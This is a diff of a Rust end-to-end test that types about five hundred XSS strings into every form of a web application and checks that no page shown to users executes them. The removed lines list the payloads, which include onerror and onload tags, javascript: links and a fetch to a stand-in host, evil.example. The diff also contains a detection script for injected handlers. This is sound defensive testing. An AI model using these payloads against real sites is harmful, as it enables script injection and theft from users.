@@ -1,312 +1,327 @@
-//! Five hundred texts that try to become scripts go through every text field of every form that anybody can reach, and
-//! every page that shows one of them is opened by everybody who can: none ever runs.
+//! Five hundred texts that try to become scripts go through every text field of every form of every page, and every page
+//! that shows one of them is opened by everybody who can: none ever runs.
 //!
-//! The forms are found in the pages themselves, so a new one is covered the day it is linked. Each is sent twice: with such
-//! a text in every field, numbers and dates too — the refused form shows them again, and is looked at as the sweep looks at
-//! pages: the state *refused* —, and with such texts in its free fields only, so that what can be stored is.
+//! The stage is set so that every form is on some page (`stage.rs`); the forms are found in the pages themselves
+//! (`forms.rs`), and which field of which form took the texts stands in `fields.txt`, page by page (`UPDATE_FIELDS=1`
+//! writes it). Each form is sent twice. First *refused*: all the texts in every field, numbers and dates too; the page
+//! shows them again, and is looked at as the sweep looks at pages: the state *refused*. Then *stored*: with as many texts as every field takes, and something sensible where none is taken. Forms
+//! are sent by a form of the browser wherever the answer shows what was typed, and without it where it leads on.
 
+mod list;
+mod stage;
+mod taken;
+mod trap;
+
+use crate::forms::{Control, Form, Routes, encoded, forms, kind, reach, row};
 use crate::look::{noise, wrong};
-use crate::site::{ADMIN, AUDITOR, CONTACT, LEAD, LEARNER, PASSWORD, Site};
-use crate::sweep::{SKIPPED, kind};
-use serde_json::{Value, json};
-use std::collections::{BTreeMap, BTreeSet, VecDeque};
+use crate::site::{LEARNER, PASSWORD, Site};
+use serde_json::json;
+use stage::Visitor;
+use std::collections::{BTreeMap, BTreeSet};
 use testkit::browser::Browser;
+use testkit::pages::Browser as Desk;
+use trap::{BORN, SHOWN, harm, texts};
 
-/// Every way in combined with every way to act; each would leave a mark on the window, open a dialog or ask for an address
-/// outside. All carry the word by which the pages that show them are found.
-fn texts() -> VecDeque<String> {
-    let acts =
-        ["window.__ran=1", "alert('__ran')", "top['__ran']=1", "eval('__ran=1')", "fetch('//evil.example/'+(__ran=1))"];
-    let mut texts = VecDeque::new();
-    for act in acts {
-        for tag in [
-            "img src=x",
-            "svg",
-            "body",
-            "input autofocus",
-            "details open",
-            "video src=x",
-            "iframe",
-            "marquee",
-            "select autofocus",
-            "audio src=x",
-        ] {
-            for event in
-                ["onerror", "onload", "onfocus", "ontoggle", "onstart", "ONMOUSEOVER", "on\u{200b}load", "onpageshow"]
-            {
-                texts.push_back(format!("<{tag} {event}=\"{act}\">"));
-            }
-        }
-        for whole in [
-            "<script>{}</script>",
-            "<ScRiPt>{}</sCrIpT>",
-            "<script src=data:text/javascript,{}></script>",
-            "</textarea><script>{}</script>",
-            "</title><script>{}</script>",
-            "\"><script>{}</script>",
-            "'><svg onload={}>",
-            "\" autofocus onfocus={} x=\"",
-            "<a href=\"javascript:{}\">x</a>",
-            "[x](javascript:{})",
-            "[x](JaVaScRiPt:{})",
-            "[x](data:text/html,<script>{}</script>)",
-            "![x](x\"onerror=\"{})",
-            "<svg><script>{}</script></svg>",
-            "<math><mtext><script>{}</script></mtext></math>",
-            "<style>@import 'javascript:{}';</style>",
-            "<meta http-equiv=refresh content='0;url=javascript:{}'>",
-            "<object data='javascript:{}'></object>",
-            "<form action='javascript:{}'><button>x</button></form>",
-            "<!--<img src='--><img src=x onerror={}>",
-            "`<img src=x onerror={}>`",
-            "<svg><animate onbegin={} attributeName=x dur=1s>",
-            "<a href='&#106;avascript:{}'>x</a>",
-            "{{{{{}}}}}",
-            "${{{}}}",
-        ] {
-            texts.push_back(whole.replace("{}", act));
-        }
+/// Every form of a page with the fields that it has, and those (`*`) in which a text was stored.
+const FIELDS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser/fields.txt");
+
+/// Forms that never show again what was typed: passwords and codes, and the one that answers everybody alike.
+const SILENT: [&str; 4] =
+    ["/me/password", "/me/second-factor/disable", "/me/second-factor/recovery-codes", "/password-reset"];
+
+/// What a form sends at most in its body and in its address, in bytes: the service takes some more.
+const BODY: usize = 200_000;
+const ADDRESS: usize = 50_000;
+
+/// A form of the browser with these fields, sent at once.
+const SEND: &str = "const [method, action, fields] = arguments;
+    const form = document.createElement('form');
+    form.method = method;
+    form.action = action;
+    for (const [name, value] of fields) {
+        const field = document.createElement('textarea');
+        field.name = name;
+        field.value = value;
+        form.append(field);
     }
-    texts
-}
+    document.body.append(form);
+    HTMLFormElement.prototype.submit.call(form);";
 
-/// The forms of a page that have something to type, each with its address and the room in its text fields. Free fields are
-/// those that take any text; the others want a number, a date, an address.
-const FORMS: &str = "return [...document.querySelectorAll('main form')].map((form, at) => ({at,
-    action: (form.getAttribute('method') || 'get') + ' ' + new URL(form.getAttribute('action') || '', location.href).pathname,
-    fields: [...form.elements].filter(one => one.name && (one.tagName === 'TEXTAREA' || (one.tagName === 'INPUT'
-        && ['text', 'search', 'email', 'tel', 'url', 'password', 'number'].includes(one.type)))).map(one => ({name: one.name,
-        free: one.tagName === 'TEXTAREA' || (['text', 'search'].includes(one.type) && !one.inputMode && !one.classList.contains('date')
-            && !one.classList.contains('n') && !/code|email|token|url|yen|seats|on$/.test(one.name)),
-        room: one.maxLength > 0 ? one.maxLength : (one.tagName === 'TEXTAREA' ? 900 : 90)}))})).filter(form => form.fields.length);";
-
-/// Fills a form and sends it: texts by the names of fields, something sensible wherever else something is missing.
-const SEND: &str = "const [at, texts, sensible] = arguments;
-    const form = document.querySelectorAll('main form')[at];
-    form.noValidate = true;
-    for (const one of form.elements) {
-        if (one.name in texts && 'value' in one && one.type !== 'hidden') one.value = texts[one.name];
-        else if (sensible && one.tagName === 'SELECT' && !one.value) one.selectedIndex = Math.min(1, one.options.length - 1);
-        else if (sensible && one.type === 'radio' && !form.querySelector(`[name=\"${one.name}\"]:checked`)) one.checked = true;
-        else if (sensible && one.type === 'checkbox' && !one.checked) one.checked = true;
-        else if (sensible && !one.value && one.tagName === 'INPUT') {
-            if (one.classList.contains('date') || /on$/.test(one.name)) one.value = sensible.day;
-            else if (one.type === 'email' || /email/.test(one.name)) one.value = sensible.email;
-            else if (one.type === 'password') one.value = sensible.password;
-            else if (['text', 'number'].includes(one.type)) one.value = '1';
-        }
-    }
-    const button = form.querySelector('button:not([type=button]):not([formnovalidate])') || form.querySelector('button');
-    if (button) HTMLFormElement.prototype.requestSubmit.call(form, button); else HTMLFormElement.prototype.submit.call(form);";
-
-/// Scripts, handlers and frames that no page of ours has.
-const BORN: &str = "const found = [];
-    if (typeof window.__ran !== 'undefined') found.push('a script ran');
-    for (const one of document.scripts) if (!one.src.startsWith(location.origin + '/assets/') || one.textContent.trim()) found.push('a script element');
-    for (const one of document.querySelectorAll('iframe, object, embed, base, style, marquee, audio, video, math, meta[http-equiv], animate'))
-        found.push('an element ' + one.tagName);
-    for (const one of document.querySelectorAll('*')) for (const a of one.attributes) {
-        if (/^on/i.test(a.name)) found.push('a handler ' + a.name + ' of ' + one.tagName);
-        if (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value)
-            && !(one.tagName === 'IMG' || one.tagName === 'LINK')) found.push('an address ' + a.value.slice(0, 40));
-    }
-    return found;";
-
-/// What a text did to the page that shows it; an empty list when it is shown and nothing more.
-fn harm(browser: &Browser, site: &Site) -> Vec<String> {
-    let mut found = Vec::new();
-    if browser.dialog() {
-        found.push("a dialog".to_owned());
-    }
-    let born = browser.run(BORN, Vec::new());
-    found.extend(born.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned));
-    found.extend(noise(browser, site));
-    found
-}
-
-/// What somebody reaches by links, without a browser: address by address, so many of a kind, with what each page says.
-fn reach(site: &Site, email: Option<&str>, of_a_kind: usize) -> Vec<(String, String)> {
-    let anonymous = testkit::pages::Browser::at(&site.base);
-    let desk = email.map_or(anonymous, |email| site.desk(email));
-    let first: &[&str] = if email.is_some() {
-        &["/"]
-    } else {
-        &["/sign-in", "/invitations", "/password-reset", "/password-resets", "/bootstrap", "/acknowledgements", "/help"]
-    };
-    let mut queue: VecDeque<String> = first.iter().map(|path| (*path).to_owned()).collect();
-    let (mut seen, mut kinds) = (BTreeSet::new(), BTreeMap::<String, usize>::new());
-    let mut pages = Vec::new();
-    while let Some(link) = queue.pop_front() {
-        let count = kinds.entry(kind(&link)).or_default();
-        *count += 1;
-        if *count > of_a_kind {
-            continue;
-        }
-        let answer = desk.get(&link);
-        if answer.status != 200 || !answer.headers["content-type"].starts_with("text/html") {
-            continue;
-        }
-        for part in answer.text.split("href=\"").skip(1) {
-            let next = part.split('"').next().unwrap_or_default().replace("&amp;", "&").replace("&#38;", "&");
-            let next = next.split('#').next().unwrap_or_default().to_owned();
-            let ours = next.starts_with('/') && SKIPPED.iter().all(|skipped| !next.starts_with(skipped));
-            if ours && !next.contains("/export") && seen.insert(next.clone()) {
-                queue.push_back(next);
-            }
-        }
-        pages.push((link, answer.text));
-    }
-    pages
-}
+/// What tells a form from others: method, route, fields.
+type Key = (String, String, BTreeSet<String>);
 
 struct Walk<'a> {
     site: &'a Site,
     browser: &'a Browser,
-    texts: VecDeque<String>,
-    used: BTreeSet<String>,
-    /// Sessions of the browser, by address.
+    routes: Routes,
+    texts: Vec<String>,
+    /// The next text to be stored.
+    next: usize,
+    visitors: Vec<Visitor>,
     cookies: BTreeMap<&'static str, String>,
-    /// Forms that were sent, by role and address.
-    sent: BTreeSet<String>,
+    /// Where each form stands, and for whom.
+    forms: BTreeMap<Key, Vec<(usize, Form)>>,
+    /// Forms by the pages that have them; pages without are here, too.
+    pages: BTreeMap<String, BTreeSet<Key>>,
+    /// Routes to which forms are sent.
+    met: BTreeSet<String>,
+    /// Fields in which a text was stored, and the texts.
+    kept: BTreeMap<Key, BTreeSet<String>>,
+    stored: BTreeSet<String>,
+    /// Forms that never showed a text again.
+    silent: BTreeSet<String>,
+    /// Why a form did not take a text, for whoever reads the list.
+    turned_away: BTreeMap<Key, String>,
     found: Vec<String>,
     number: usize,
 }
 
 impl Walk<'_> {
+    fn desk(&self, at: usize) -> Desk<'_> {
+        let mut desk = Desk::at(&self.site.base);
+        if let Some(cookie) = self.visitors[at].email.and_then(|email| self.cookies.get(email)) {
+            desk.cookie.clone_from(cookie);
+        }
+        desk
+    }
+
     /// The browser belongs to somebody now. Everybody signed in before anything was typed: texts in fields for passwords
     /// count as guesses, and close the door for a while.
-    fn act_for(&self, email: Option<&str>) {
+    fn act_for(&self, at: usize) {
         self.browser.forget();
         self.browser.open(&self.site.url("/help"));
-        if let Some(cookie) = email.and_then(|email| self.cookies.get(email)) {
+        if let Some(cookie) = self.visitors[at].email.and_then(|email| self.cookies.get(email)) {
             let _set = self.browser.run("document.cookie = arguments[0] + '; path=/';", vec![json!(cookie)]);
             self.browser.open(&self.site.url("/"));
-            assert!(self.browser.has("form[action='/sign-out']"), "{email:?}: {}", self.browser.text("main"));
+            assert!(self.browser.has("form[action='/sign-out']"), "{}", self.browser.text("main"));
         }
         let _before = noise(self.browser, self.site);
     }
 
-    /// The next text that fits into a field.
-    fn next(&mut self, room: usize) -> String {
-        let fits = self.texts.iter().position(|text| text.chars().count() <= room);
-        let text = match fits.and_then(|at| self.texts.remove(at)) {
-            Some(text) => text,
-            None => return "<svg onload=__ran=1>".chars().take(room).collect(),
-        };
-        self.used.insert(text.clone());
-        // Round and round: there are more fields than texts, or fewer.
-        self.texts.push_back(text.clone());
-        text
+    fn key(&self, form: &Form) -> Option<Key> {
+        let route = self.routes.pattern(&form.method, form.path())?;
+        Some((form.method.clone(), route.to_owned(), form.fields()))
     }
 
-    /// Sends a form of a page with texts in it; what came of it is looked at.
-    fn send(&mut self, page: &str, form: &Value, everywhere: bool) {
-        self.browser.open(&self.site.url(page));
-        let mut typed = serde_json::Map::new();
-        for field in form["fields"].as_array().unwrap() {
-            if everywhere || field["free"] == true {
-                let room = usize::try_from(field["room"].as_i64().unwrap_or(90)).unwrap_or(90);
-                typed.insert(field["name"].as_str().unwrap().to_owned(), json!(self.next(room)));
+    /// Finds every form of every page that anybody reaches.
+    fn gather(&mut self) {
+        for at in 0..self.visitors.len() {
+            let visitor = &self.visitors[at];
+            let desk = self.desk(at);
+            let mut pages = if visitor.roams {
+                reach(&desk, &visitor.first, 2)
+            } else {
+                visitor.first.iter().map(|address| (address.clone(), desk.get(address).text)).collect()
+            };
+            // What stands above every page of somebody.
+            let head = pages[0].1.split("<main").next().unwrap_or_default().to_owned();
+            pages.extend(visitor.answers.iter().cloned());
+            pages.push(("every page".to_owned(), format!("<main>{head}")));
+            for (address, _) in &pages {
+                let page = self.routes.pattern("GET", address).unwrap_or(address).to_owned();
+                self.pages.entry(page).or_default();
+            }
+            for form in forms(self.browser, &pages) {
+                let Some(key) = self.key(&form) else {
+                    self.found.push(format!("{}: a form to {} {}", form.page, form.method, form.action));
+                    continue;
+                };
+                self.met.insert(key.1.clone());
+                if !key.2.is_empty() {
+                    let page = self.routes.pattern("GET", &form.page).unwrap_or(&form.page).to_owned();
+                    self.pages.entry(page).or_default().insert(key.clone());
+                    self.forms.entry(key).or_default().push((at, form));
+                }
             }
         }
-        self.number += 1;
-        let sensible = json!({
-            "day": crate::office::in_days(20), "email": format!("ran{}@demo.example.lg.jp", self.number),
-            "password": PASSWORD,
-        });
-        let sensible = if everywhere { Value::Null } else { sensible };
-        let at = format!("{page} {}", form["action"].as_str().unwrap());
+    }
+
+    /// Sends fields by the browser; what came of it is looked at. Whether it shows a text.
+    fn send(&mut self, form: &Form, fields: &[(String, String)], what: &str) -> bool {
         self.browser.leave(|browser| {
-            let _sent = browser.run(SEND, vec![form["at"].clone(), Value::Object(typed), sensible]);
+            let _sent = browser.run(SEND, vec![json!(form.method), json!(form.action), json!(fields)]);
         });
+        let at = format!("{} {} {} ({what})", form.page, form.method, form.action);
         self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{at}: {one}")));
-        let refused = self.browser.has("#errors");
-        if everywhere && refused {
-            let faults = wrong(self.browser, self.site, &[1280, 375]);
-            self.found.extend(faults.into_iter().map(|one| format!("{at}, refused: {one}")));
+        self.browser.run(SHOWN, Vec::new()) == json!(true)
+    }
+
+    /// Sends a form with every text in every field, in as many parts as the service takes.
+    fn refused(&mut self, key: &Key, form: &Form) {
+        self.number += 1;
+        let mut parts = 1;
+        let mut part = 0;
+        let mut shown = false;
+        while part < parts {
+            let mut fields = self.filled(form, part, parts);
+            let most = if form.method == "GET" { ADDRESS } else { BODY };
+            let size = encoded(&fields).len();
+            if parts == 1 && size > most {
+                parts = size.div_ceil(most) + 1;
+                fields = self.filled(form, part, parts);
+            }
+            shown |= self.send(form, &fields, "refused");
+            if part == 0 && self.browser.has("#errors") {
+                let faults = wrong(self.browser, self.site, &[1280, 375]);
+                self.found.extend(faults.into_iter().map(|one| format!("{key:?}, refused: {one}")));
+            }
+            part += 1;
+            if !self.browser.has("main h1") || self.browser.text("h1").contains("大きすぎ") {
+                self.found.push(format!("{key:?}: no page of ours: {}", self.browser.text("body")));
+            }
         }
-        // A page that asks once more: its form carries what was typed.
-        if !everywhere && !refused && self.browser.run(ASKED, Vec::new()) == json!(true) {
-            self.browser.leave(|browser| {
-                let _sent = browser.run("document.querySelector('main form button.primary').click();", Vec::new());
-            });
-            self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{at}, confirmed: {one}")));
+        // A list that is narrowed takes a short text where it refuses a long one.
+        if form.method == "GET" {
+            shown |= self.send(form, &self.short(form), "narrowed");
+        }
+        if !shown && form.controls.iter().any(Control::is_text) {
+            self.silent.insert(key.1.clone());
         }
     }
 
-    fn forms(&mut self, role: &str, email: Option<&str>) {
-        self.act_for(email);
-        for (page, html) in reach(self.site, email, 1) {
-            let main = html.split_once("<main").map_or("", |(_, main)| main);
-            if !main.contains("<form") {
+    /// A part of the texts in every field; in tables, of the first two rows. Each begins with another one.
+    fn filled(&self, form: &Form, part: usize, parts: usize) -> Vec<(String, String)> {
+        let size = self.texts.len().div_ceil(parts);
+        let mut rows = BTreeMap::<String, usize>::new();
+        let mut fields = Vec::new();
+        for (number, control) in form.controls.iter().enumerate() {
+            let count = rows.entry(row(&control.name)).or_default();
+            *count += 1;
+            if control.is_typed() && *count <= 2 {
+                let mut some: Vec<&str> = self
+                    .texts
+                    .iter()
+                    .map(String::as_str)
+                    .cycle()
+                    .skip((part + number) % parts * size)
+                    .take(size)
+                    .collect();
+                let by = number * 61 % some.len();
+                some.rotate_left(by);
+                fields.push((control.name.clone(), some.join(if control.kind == "area" { "\n\n" } else { " " })));
+            } else if let Some(value) = control.value.as_ref().or(control.is_choice().then_some(&control.spare)) {
+                fields.push((control.name.clone(), value.clone()));
+            }
+        }
+        self.anew(fields)
+    }
+
+    /// One short text in every field.
+    fn short(&self, form: &Form) -> Vec<(String, String)> {
+        let mut short = self.texts.iter().filter(|text| text.chars().count() <= 30).cycle().skip(self.number);
+        let mut value =
+            |control: &Control| if control.is_text() { short.next().cloned() } else { control.value.clone() };
+        form.controls.iter().filter_map(|control| Some((control.name.clone(), value(control)?))).collect()
+    }
+
+    /// The same fields as another rendering of the form has them.
+    fn anew(&self, mut fields: Vec<(String, String)>) -> Vec<(String, String)> {
+        let once = fields.iter_mut().find(|(name, _)| name == "_once");
+        once.into_iter().for_each(|(_, value)| value.push_str(&format!("-{}", self.number)));
+        fields
+    }
+
+    /// Every form with every text, then every form with what it takes.
+    fn send_all(&mut self) {
+        for at in 0..self.visitors.len() {
+            let mine: Vec<(Key, Form)> =
+                self.of(at).into_iter().filter_map(|(key, forms)| Some((key, forms.into_iter().next()?))).collect();
+            if mine.is_empty() {
                 continue;
             }
-            self.browser.open(&self.site.url(&page));
-            let forms = self.browser.run(FORMS, Vec::new()).as_array().cloned().unwrap_or_default();
-            for form in forms {
-                if self.sent.insert(format!("{role} {}", kind(form["action"].as_str().unwrap()))) {
-                    self.send(&page, &form, true);
-                    // A new password ends every other session.
-                    if form["action"] != "post /me/password" {
-                        self.send(&page, &form, false);
+            self.act_for(at);
+            for (key, form) in mine {
+                self.refused(&key, &form);
+            }
+        }
+        for at in 0..self.visitors.len() {
+            let mine: Vec<(Key, Vec<Form>)> = self.of(at).into_iter().filter(|(key, _)| key.0 == "POST").collect();
+            if mine.is_empty() {
+                continue;
+            }
+            self.act_for(at);
+            for (key, forms) in mine {
+                // What asks for a password, and what answers everybody alike, stores no text.
+                if forms[0].controls.iter().any(|control| control.kind == "secret") || key.1 == "/password-reset" {
+                    continue;
+                }
+                for form in forms {
+                    // What others sent meanwhile has moved it on.
+                    let page =
+                        if form.page.starts_with('/') { self.desk(at).get(&form.page).text } else { String::new() };
+                    let fresh = crate::forms::forms(self.browser, &[(form.page.clone(), page)]);
+                    let fresh =
+                        fresh.into_iter().find(|fresh| fresh.action == form.action && fresh.fields() == form.fields());
+                    let form = if form.page.starts_with('/') { fresh } else { Some(form) };
+                    if form.is_some_and(|form| self.stored(&key, at, &form)) {
+                        break;
                     }
                 }
             }
         }
     }
 
-    /// Texts that no field took go into posts, many in each.
-    fn rest(&mut self) {
-        self.act_for(Some(LEARNER));
+    /// The forms that somebody meets first of all, with every place where they are.
+    fn of(&self, at: usize) -> Vec<(Key, Vec<Form>)> {
+        let mine = self.forms.iter().filter(|(_, places)| places[0].0 == at);
+        mine.map(|(key, places)| {
+            (key.clone(), places.iter().filter(|(who, _)| *who == at).map(|(_, form)| form.clone()).collect())
+        })
+        .collect()
+    }
+
+    /// A session that ended takes the texts along, over the sign-in and on.
+    fn resumed(&mut self) {
         let desk = self.site.desk(LEARNER);
-        let write = format!("/consortia/{}/posts/new?kind=knowhow", crate::office::consortium(&desk));
-        let left: Vec<String> = self.texts.iter().filter(|text| !self.used.contains(*text)).cloned().collect();
-        for some in left.chunks(70) {
-            self.browser.open(&self.site.url(&write));
-            let form = json!({"title": some[0].chars().take(90).collect::<String>(), "body": some.join("\n\n")});
-            let at = "return [...document.querySelectorAll('main form')].findIndex(form => form.elements.body);";
-            let at = self.browser.run(at, Vec::new());
-            self.browser.leave(|browser| {
-                let _sent = browser.run(SEND, vec![at, form, Value::Null]);
-            });
-            assert!(self.browser.url().contains("/posts/"), "{}", self.browser.text("main"));
-            self.found.extend(harm(self.browser, self.site));
-            self.used.extend(some.iter().cloned());
+        let to = format!("/consortia/{}/posts/new", crate::office::consortium(&desk));
+        self.browser.forget();
+        self.browser.open(&self.site.url("/help"));
+        let _before = noise(self.browser, self.site);
+        let form = Form { page: to.clone(), method: "POST".to_owned(), action: to, controls: Vec::new() };
+        let fields = [
+            ("kind", "knowhow"),
+            ("title", &self.texts[0]),
+            ("body", &self.texts.join("\n\n")),
+            ("visibility", "consortium"),
+        ];
+        let fields: Vec<(String, String)> =
+            fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+        let _shown = self.send(&form, &fields, "after the end of the session");
+        for (css, value) in [("[name=email]", LEARNER), ("[name=password]", PASSWORD)] {
+            self.browser.fill(css, value);
         }
+        for _ in 0..2 {
+            self.browser.leave(|browser| browser.click("main form button.primary"));
+            let faults = harm(self.browser, self.site);
+            self.found.extend(faults.into_iter().map(|one| format!("resumed: {one}")));
+        }
+        assert!(self.browser.has("#errors"), "20,000 characters are the most: {}", self.browser.text("main"));
     }
 
     /// Opens every page of somebody that shows one of the texts; how many.
-    fn visit(&mut self, role: &str, email: Option<&str>) -> usize {
-        let showing: Vec<String> = reach(self.site, email, 4)
-            .into_iter()
-            .filter(|(_, html)| html.contains("__ran"))
-            .map(|(page, _)| page)
-            .collect();
+    fn visit(&mut self, at: usize) -> usize {
+        let main = |html: &str| html.split_once("<main").is_some_and(|(_, main)| main.contains("__ran"));
+        let pages = reach(&self.desk(at), &self.visitors[at].first, 4);
+        let mut kinds = BTreeMap::<String, usize>::new();
+        let mut few = |page: &str| {
+            let count = kinds.entry(kind(page)).or_default();
+            *count += 1;
+            *count <= 2
+        };
+        let showing = pages.into_iter().filter(|(page, html)| main(html) && few(page));
+        let showing: Vec<String> = showing.map(|(page, _)| page).collect();
         if showing.is_empty() {
             return 0;
         }
-        self.act_for(email);
+        self.act_for(at);
         for page in &showing {
             self.browser.open(&self.site.url(page));
-            self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{role} {page}: {one}")));
+            let faults = harm(self.browser, self.site);
+            self.found.extend(faults.into_iter().map(|one| format!("{} {page}: {one}", self.visitors[at].name)));
         }
         showing.len()
     }
 }
-
-/// Whether the page asks for a confirmation of what was typed: no field to type in, but what is carried unseen.
-const ASKED: &str = "const form = document.querySelector('main form.sheet');
-    return !!form && !form.querySelector('input:not([type=hidden]), textarea, select') && !!form.querySelector('button.primary')
-        && form.querySelectorAll('input[type=hidden]').length > 3;";
-
-const EVERYBODY: [(&str, Option<&str>); 6] = [
-    ("learner", Some(LEARNER)),
-    ("contact", Some(CONTACT)),
-    ("lead", Some(LEAD)),
-    ("admin", Some(ADMIN)),
-    ("auditor", Some(AUDITOR)),
-    ("nobody", None),
-];
 
 #[test]
 fn five_hundred_texts_in_every_field_never_become_scripts() {
@@ -314,36 +329,63 @@ fn five_hundred_texts_in_every_field_never_become_scripts() {
     let different: BTreeSet<String> = texts.iter().cloned().collect();
     assert!(different.len() >= 500, "{}", different.len());
     let Some(browser) = Browser::start(true, 1280) else { return };
-    // The trap itself works: on a page that lets scripts through, the mark is seen.
-    browser.open("data:text/html,<svg onload=window.__ran=1>");
+    // The trap itself works: on a page that lets scripts through, the mark is seen, and a dialog.
+    browser.open("data:text/html,<main><svg onload=window.__ran=1></main>");
     assert_eq!(browser.run("return typeof window.__ran;", Vec::new()), json!("number"));
     let born = browser.run(BORN, Vec::new());
     assert_eq!(born.as_array().map(Vec::len), Some(2), "the mark and the handler: {born}");
+    browser.open("data:text/html,<svg onload=alert(1)>");
+    assert!(browser.dialog(), "a dialog is seen");
     let site = Site::start();
+    let visitors = stage::set(&site);
+    let everybody = visitors.iter().filter_map(|visitor| visitor.email);
+    let cookies = everybody.map(|email| (email, site.desk(email).cookie)).collect();
     let mut walk = Walk {
         site: &site,
         browser: &browser,
+        routes: Routes::new(),
         texts,
-        used: BTreeSet::new(),
-        cookies: EVERYBODY.iter().filter_map(|(_, email)| *email).map(|email| (email, site.session(email))).collect(),
-        sent: BTreeSet::new(),
+        next: 0,
+        visitors,
+        cookies,
+        forms: BTreeMap::new(),
+        pages: BTreeMap::new(),
+        met: BTreeSet::new(),
+        kept: BTreeMap::new(),
+        stored: BTreeSet::new(),
+        silent: BTreeSet::new(),
+        turned_away: BTreeMap::new(),
         found: Vec::new(),
         number: 0,
     };
-    for (_, email) in EVERYBODY {
-        email.iter().for_each(|email| drop(site.desk(email)));
-    }
-    for (role, email) in EVERYBODY {
-        walk.forms(role, email);
-    }
-    walk.rest();
+    walk.gather();
+    walk.send_all();
+    walk.resumed();
     let mut shown = BTreeMap::new();
-    for (role, email) in EVERYBODY {
-        shown.insert(role, walk.visit(role, email));
+    for at in 0..walk.visitors.len() {
+        if walk.visitors[at].roams {
+            shown.insert(walk.visitors[at].name, walk.visit(at));
+        }
     }
-    eprintln!("{} forms, {} texts, shown on {shown:?} pages", walk.sent.len(), walk.used.len());
+    let seen = walk.listed();
+    if std::env::var("UPDATE_FIELDS").is_ok() {
+        std::fs::write(FIELDS, &seen).unwrap();
+    }
+    eprintln!("{} forms, {} texts stored, shown on {shown:?} pages", walk.forms.len(), walk.stored.len());
+    for (key, why) in walk.turned_away.iter().filter(|(key, _)| !walk.kept.contains_key(*key)) {
+        eprintln!("not stored: {key:?}: {why}");
+    }
+    let silent: Vec<&str> = walk.silent.iter().map(String::as_str).collect();
+    assert_eq!(silent, SILENT);
     assert!(walk.found.is_empty(), "{} faults:\n{}", walk.found.len(), walk.found.join("\n"));
-    assert!(walk.used.len() >= 500, "{} texts were typed", walk.used.len());
-    assert!(walk.sent.len() > 40, "{:?}", walk.sent);
+    assert_eq!(walk.stored.len(), different.len(), "texts were stored");
+    let stored = std::fs::read_to_string(FIELDS).unwrap_or_default();
+    let (stored, seen): (BTreeSet<&str>, BTreeSet<&str>) = (stored.lines().collect(), seen.lines().collect());
+    let (lost, new): (Vec<_>, Vec<_>) = (stored.difference(&seen).collect(), seen.difference(&stored).collect());
+    assert!(lost.is_empty() && new.is_empty(), "no longer so: {lost:#?}\nnew: {new:#?}");
+    assert!(!seen.iter().any(|line| line.ends_with("not met: ?")), "a page or form that nobody met needs a reason");
+    let met = |route: &&str| !seen.iter().any(|line| line.starts_with(&format!("{route}: not met")));
+    let met: Vec<&str> = list::NOT_MET.iter().map(|(route, _)| *route).filter(met).collect();
+    assert!(met.is_empty(), "met all the same: {met:?}");
     assert!(["learner", "contact", "lead", "auditor"].iter().all(|role| shown[role] > 3), "{shown:?}");
 }
